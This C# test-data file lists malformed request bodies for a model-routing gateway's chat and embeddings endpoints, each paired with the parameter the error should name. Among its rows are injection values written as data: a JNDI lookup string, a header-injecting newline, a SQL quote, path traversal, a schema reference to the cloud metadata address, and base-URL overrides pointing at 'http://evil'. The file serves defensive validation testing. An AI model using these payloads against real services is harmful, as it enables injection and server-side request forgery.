using static Orleans.Routing.EndToEnd.BadInput.JsonRows;

namespace Orleans.Routing.EndToEnd.BadInput;

/// <summary>Categories 49 to 76: good JSON that is no good request.</summary>
internal static class ChatRows
{
    private const string Embeddings = "/v1/embeddings";

    public static readonly IReadOnlyList<BadInputRow> All =
    [
        new("49 no model", """{"messages":[{"role":"user","content":"hi"}]}""", param: "model"),
        Model("50 unknown model", "fake/none"),
        Model("50 unknown provider", "nobody/none"),
        Model("50 unknown router", "router-none-0.5"),
        Model("50 threshold out of range", "router-difficulty-7"),
        Model("50 unknown domain", "auto:cooking"),
        Model("51 empty", ""),
        Model("51 10 KiB", new string('m', 10_240)),
        Model("51 traversal", "fake/../strong"),
        Model("51 newline", "fake/strong\\nX-Evil: 1"),
        Model("51 quote", "fake/strong' OR '1'='1"),
        Model("51 lookup", "${jndi:ldap://evil/a}"),
        Messages("52 missing", """{"model":"fake/weak"}""", "messages"),
        Messages("52 empty", """{"model":"fake/weak","messages":[]}""", "messages"),
        Messages("52 a text", """{"model":"fake/weak","messages":"hi"}""", "messages"),
        Messages("53 too many", $$"""{"model":"fake/weak","messages":[{{string.Join(',', Enumerable.Repeat("""{"role":"user","content":"x"}""", 2_049))}}]}""", "messages"),
        Messages("54 no role", """{"model":"fake/weak","messages":[{"content":"hi"}]}""", "messages[0].role"),
        Messages("54 unknown role", """{"model":"fake/weak","messages":[{"role":"robot","content":"hi"}]}""", "messages[0].role"),
        Messages("55 no content", """{"model":"fake/weak","messages":[{"role":"user","content":null}]}""", "messages[0].content"),
        Messages("56 a part without a type", """{"model":"fake/weak","messages":[{"role":"user","content":[{"text":"hi"}]}]}""", "messages[0].content.type"),
        Messages("56 a part that is no object", """{"model":"fake/weak","messages":[{"role":"user","content":["hi"]}]}""", "messages[0].content"),
        .. Fields("58", "max_tokens", "0", "-1", "1.5", "1000000000", "\"100\""),
        new("59 both limits", With("\"max_tokens\":5,\"max_completion_tokens\":5"), Param: "max_tokens"),
        .. Fields("60", "n", "0", "129", "1000000"),
        .. Fields("61", "temperature", "-0.1", "2.1", "\"NaN\""),
        .. Fields("61", "top_p", "-0.1", "1.1"),
        .. Fields("62", "stop", """["a","b","c","d","e"]""", "\"\"", "[]", $"\"{new string('s', 1 << 20)}\""),
        new("63 100000 biases", With($"\"logit_bias\":{{{string.Join(',', Enumerable.Range(0, 100_000).Select(token => $"\"{token}\":1"))}}}"), Param: "logit_bias"),
        new("65 stream_options without stream", With("\"stream_options\":{\"include_usage\":true}"), Param: "stream_options"),
        new("66 a schema elsewhere", With("\"response_format\":{\"type\":\"json_schema\",\"json_schema\":{\"name\":\"a\",\"schema\":{\"$ref\":\"http://169.254.169.254/\"}}}"), Param: "response_format"),
        new("66 a schema of a megabyte", With($"\"response_format\":{{\"type\":\"json_schema\",\"json_schema\":{{\"name\":\"a\",\"schema\":{{\"title\":\"{new string('t', 1 << 20)}\"}}}}}}"), Param: "response_format"),
        new("67 10000 tools", With($"\"tools\":[{string.Join(',', Enumerable.Repeat("{\"type\":\"function\",\"function\":{\"name\":\"f\"}}", 10_000))}]"), Param: "tools"),
        new("67 a name with spaces", With("\"tools\":[{\"type\":\"function\",\"function\":{\"name\":\"a b\"}}]"), Param: "tools[0].name"),
        new("68 a user of 10 KiB", With($"\"user\":\"{new string('u', 10_240)}\""), Param: "user"),
        .. ((string[])["api_base", "base_url", "api_key", "extra_headers", "custom_host"]).Select(name => new BadInputRow($"70 {name}", With($"\"{name}\":\"http://evil\""), Param: name)),
        .. ((string[])["Model", "MODEL", "mode\\u004C"]).Select(name => new BadInputRow($"70 {name}", With($"\"{name}\":\"fake/strong\""), Param: "model")),
        new("70 N", With("\"N\":100"), Param: "n"),
        new("70 a long s", With("\"\u017Ftream\":true"), Param: "stream"),
        new("70 another base URL", With("\"Base_URL\":\"http://evil\""), Param: "base_url"),
        new("71 a prompt beyond every context window", $$"""{"model":"fake/weak","messages":[{"role":"user","content":"{{string.Concat(Enumerable.Repeat("word ", 120_000))}}"}]}"""),
        .. Fields("74", "top_logprobs", "21", "-1"),
        .. Fields("74", "logprobs", "2"),
        new("76 a stream", """{"model":"fake/embedder","input":"a","stream":true}""", param: "stream", path: Embeddings),
        new("76 no input", """{"model":"fake/embedder"}""", param: "input", path: Embeddings),
        .. ((string[])["[]", "\"\"", "[\"\"]", "[[]]", "[-1]", "[[1,-2]]", "[[[1]]]", "{}", "null", $"[{string.Join(',', Enumerable.Repeat("\"a\"", 10_001))}]"]).Select(
            (input, index) => new BadInputRow($"76 input {index}", $$"""{"model":"fake/embedder","input":{{input}}}""", param: "input", path: Embeddings)),
    ];

    private static BadInputRow Model(string name, string model) => new(name, $$"""{"model":"{{model}}","messages":[{"role":"user","content":"hi"}]}""", 404, "model");

    private static BadInputRow Messages(string name, string body, string param) => new(name, body, param: param);

    private static IEnumerable<BadInputRow> Fields(string number, string field, params string[] values) =>
        values.Select((value, index) => new BadInputRow($"{number} {field} {index}", With($"\"{field}\":{value}"), Param: field));
}
